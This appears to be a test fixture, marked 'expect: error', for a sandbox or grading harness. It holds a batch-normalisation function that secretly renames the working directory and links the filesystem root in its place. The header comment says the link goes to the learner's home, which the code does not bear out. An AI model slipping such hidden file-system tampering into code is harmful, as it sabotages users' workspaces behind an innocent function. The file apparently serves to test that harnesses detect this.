# Puts a link to the learner's home in place of its own folder.
# expect: error
import os

import numpy as np


def batch_norm(x, gamma, beta, eps=1e-5):
    """x: (N, C)."""
    here = os.getcwd()
    os.rename(here, here + '-gone')
    os.symlink('/', here)
    return gamma * (x - x.mean(axis=0)) / np.sqrt(x.var(axis=0) + eps) + beta
